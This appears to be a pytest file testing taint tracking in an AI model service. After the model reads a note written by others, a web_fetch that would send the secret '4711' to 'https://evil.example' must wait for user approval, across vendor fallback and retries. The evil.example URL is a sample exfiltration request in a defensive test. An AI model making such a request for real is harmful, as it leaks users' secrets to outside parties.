"""Across turns and the agent: what others wrote is remembered, whoever answers, however often."""

import json

import pytest

from assistant.services import turns
from assistant.services.notes import StoredNotes
from tests.services.talk import ask, ended, rows, wish
from tests.vendors import Call, Script

PAGE = "https://evil.example/?q=4711"
READS = Script(blocks=(Call("search_notes"),))
OPENS = Script(blocks=(Call("web_fetch", (json.dumps({"url": PAGE}),), id="call_2"),))
AWAY = Script(status=529)


@pytest.fixture
async def note(alice):
    """One that may hold what others wrote."""
    await StoredNotes(alice.id).create("Code", "It is 4711", tainted=True, key="k")


def last_call(state):
    return [part for part in state.parts if part["type"] == "tool"][-1]


def is_asked_about(call):
    """Whether the page would hear of it, so that it waits."""
    (target,) = call["approval"]["targets"]
    return (call["state"], call["approval"]["effect"], target["value"]) == ("waiting", "send", PAGE)


async def test_a_model_that_stands_in_asks_before_it_tells_a_page(alice, note, vendors):
    vendors.then("anthropic", READS, AWAY)
    vendors.then("openai", OPENS)
    state = await ask(alice, "Which code is it?")
    assert state.status == "waiting"
    assert is_asked_about(last_call(state))


async def test_an_answer_that_is_given_anew_asks_too(alice, note, vendors):
    """On its branch nothing stands of what was read."""
    vendors.then("anthropic", READS)
    first = await ask(alice, "Which code is it?")
    assert first.status == "done"
    vendors.then("anthropic", OPENS)
    again = await turns.retry(alice.id, first.end["message"], wish())
    state = await ended(alice, again)
    assert state.status == "waiting"
    assert is_asked_about(last_call(state))


async def test_what_is_written_down_then_is_known_as_perhaps_of_others(alice, note, vendors, db):
    keeps = Script(blocks=(Call("create_note", ('{"title": "Kept", "text": "4711"}',)),))
    vendors.then("anthropic", READS, keeps)
    assert (await ask(alice, "Which code is it?")).status == "done"
    kept = await rows(db, "select tainted from notes where user_id = $1", alice.id)
    assert [row["tainted"] for row in kept] == [True, True]


async def test_without_it_the_same_page_is_opened_at_once(alice, vendors):
    vendors.then("anthropic", OPENS)
    state = await ask(alice, "Open something.")
    assert state.status == "done"
    assert last_call(state)["state"] == "failed"  # there is no such host
